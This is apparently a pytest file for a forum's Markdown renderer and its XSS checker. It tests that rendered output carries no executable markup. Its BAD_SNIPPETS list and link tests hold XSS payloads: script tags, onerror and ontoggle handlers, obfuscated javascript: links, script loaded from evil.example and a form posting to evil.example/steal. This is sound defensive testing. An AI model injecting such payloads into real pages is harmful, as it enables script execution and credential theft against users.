"""Forum Markdown rendering: the XSS corpus, the checker that judges it, and plain behaviour."""

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from forum.markup import render
from tests.xss import find_executable_markup

PAYLOADS = json.loads(
    (Path(__file__).resolve().parent.parent / "data" / "xss_payloads.json").read_text("utf-8")
)
SITE_JS = "/static/js/site.js"


def _anchors(html: str) -> list[dict[str, str]]:
    """The attributes of every <a> element in ``html``, entities decoded."""

    class Collector(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.anchors: list[dict[str, str]] = []

        def handle_starttag(self, tag, attrs):
            if tag == "a":
                self.anchors.append({name: value or "" for name, value in attrs})

    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector.anchors


# --- the corpus ------------------------------------------------------------------------


def test_corpus_is_large_and_unique():
    assert isinstance(PAYLOADS, list)
    assert all(isinstance(payload, str) for payload in PAYLOADS)
    assert len(PAYLOADS) == len(set(PAYLOADS))
    assert len(set(PAYLOADS)) >= 130
    assert all(len(payload) < 2000 for payload in PAYLOADS)


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_payload_renders_without_executable_markup(index):
    payload = PAYLOADS[index]
    html = render(payload)
    assert find_executable_markup(html) == [], f"payload {payload!r} rendered as {html!r}"


# --- the checker itself ------------------------------------------------------------------

BAD_SNIPPETS = [
    "<script>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<img src=x onerror=alert(1)>",
    "<svg><circle r=1></circle></svg>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    "<math><mi>x</mi></math>",
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<link rel="import" href="/x.html">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=p></form>',
    '<form action="//evil.example/steal"></form>',
    '<form action="/ok/"><button formaction="javascript:alert(1)">x</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="\x01 javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<a href="data:image/png;base64,AAAA">x</a>',
    '<img src="data:text/html,x">',
    '<p style="background:red">x</p>',
    '<div onmouseover="alert(1)">x</div>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<video poster="javascript:alert(1)"></video>',
    '<table background="javascript:alert(1)"></table>',
    "<details open ontoggle=alert(1)>",
    "<br onclick=alert(1)/>",
]


@pytest.mark.parametrize("snippet", BAD_SNIPPETS)
def test_checker_flags_bad_markup(snippet):
    problems = find_executable_markup(snippet, allowed_script_srcs=[SITE_JS])
    assert problems, f"{snippet!r} was not flagged"
    assert all(isinstance(problem, str) and problem for problem in problems)


def test_checker_flags_site_script_unless_allowed():
    snippet = f'<script src="{SITE_JS}" defer></script>'
    assert find_executable_markup(snippet)
    assert find_executable_markup(snippet, allowed_script_srcs=[SITE_JS]) == []
    assert find_executable_markup(
        '<script src="/static/js/other.js"></script>', allowed_script_srcs=[SITE_JS]
    )


GOOD_SNIPPETS = [
    "",
    "plain text",
    "<p>Hello <strong>world</strong> and <em>you</em></p>",
    "<blockquote><p>quoted</p></blockquote><ul><li>a</li></ul><ol start=3><li>b</li></ol>",
    "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    "<p>&lt;img src=x onerror=alert(1)&gt; and javascript:alert(1) as text</p>",
    '<a href="https://example.org/" rel="nofollow ugc noopener">https</a>',
    '<a href="http://example.org/">http</a>',
    '<a href="mailto:someone@example.org">mail</a>',
    '<a href="/forum/topic/1/">absolute path</a>',
    '<a href="../x">relative</a> <a href="#top">fragment</a> <a href="?page=2">query</a>',
    '<a href="/javascript:/x">a path that mentions javascript:</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline image">',
    '<img src="/media/photo.jpg" alt="">',
    '<meta charset="utf-8"><meta name="viewport" content="width=device-width">',
    '<link rel="stylesheet" href="/static/css/site.css">',
    f'<script src="{SITE_JS}" defer></script>',
    '<form action="/i18n/setlang/" method="post"><input type="hidden" name="next" value="/">'
    '<button type="submit">NL</button></form>',
    '<form method="post"><input name="q"></form>',
    '<form action="" method="post"></form>',
    '<form action="afvinken/" method="post"></form>',
    "<!-- a comment --><hr><br>",
]


@pytest.mark.parametrize("snippet", GOOD_SNIPPETS)
def test_checker_accepts_good_markup(snippet):
    assert find_executable_markup(snippet, allowed_script_srcs=[SITE_JS]) == []


def test_checker_accepts_a_page_like_ours():
    post = render("> hi\n\n**bold** [link](https://example.org)")
    page = f"""<!doctype html>
<html lang="nl">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>Forum · Samenredzaam</title>
  <meta name="description" content="Leer stap voor stap.">
  <link rel="stylesheet" href="/static/css/site.css">
  <script src="{SITE_JS}" defer></script>
</head>
<body>
  <header>
    <form class="language-switch" action="/i18n/setlang/" method="post">
      <input type="hidden" name="csrfmiddlewaretoken" value="abc">
      <select name="language"><option value="nl" selected>Nederlands</option></select>
      <button type="submit">Kies</button>
    </form>
    <nav><a href="/">Home</a> <a href="/forum/">Forum</a></nav>
    <form action="/accounts/logout/" method="post" class="inline-form"><button>Uit</button></form>
  </header>
  <main>{post}</main>
</body>
</html>"""
    assert find_executable_markup(page, allowed_script_srcs=[SITE_JS]) == []


def test_checker_problems_are_readable():
    [problem] = find_executable_markup('<p>\n<a href="javascript:alert(1)">x</a></p>')
    assert "line 2" in problem
    assert "<a>" in problem
    assert "javascript:alert(1)" in problem


# --- renderer behaviour --------------------------------------------------------------------


def test_empty_input_renders_empty():
    assert render("") == ""


def test_quote_becomes_blockquote():
    html = render("> quoted line")
    assert html.startswith("<blockquote>")
    assert "quoted line" in html
    assert html.endswith("</blockquote>")


def test_lists():
    assert render("- a\n- b") == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"
    assert render("1. x\n2. y") == "<ol>\n<li>x</li>\n<li>y</li>\n</ol>"
    assert '<ol start="3">' in render("3. three\n4. four")


def test_bold_and_emphasis():
    assert render("**bold** and *em*") == "<p><strong>bold</strong> and <em>em</em></p>"


@pytest.mark.parametrize(
    "href",
    [
        "https://example.org/page?q=1",
        "http://example.org/",
        "mailto:someone@example.org",
        "/forum/topic/1/",
        "../relative/",
    ],
)
def test_links_are_kept_with_rel(href):
    [anchor] = _anchors(render(f"[text]({href})"))
    assert anchor["href"] == href
    assert anchor["rel"] == "nofollow ugc noopener"


def test_autolink_gets_rel():
    [anchor] = _anchors(render("<https://example.org>"))
    assert anchor == {"href": "https://example.org", "rel": "nofollow ugc noopener"}


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript&#58;alert(1))",
        "[x](javascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
    ],
)
def test_javascript_link_does_not_become_an_anchor_with_javascript_href(source):
    for anchor in _anchors(render(source)):
        squashed = "".join(ch for ch in anchor.get("href", "") if ord(ch) > 0x20).lower()
        assert not squashed.startswith("javascript:"), anchor


def test_raw_html_is_escaped_as_text_not_dropped():
    html = render("<b>hi</b>")
    assert "&lt;b&gt;hi&lt;/b&gt;" in html
    assert "<b>" not in html


def test_raw_script_is_shown_as_text():
    html = render("<script>alert(1)</script>")
    assert html == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
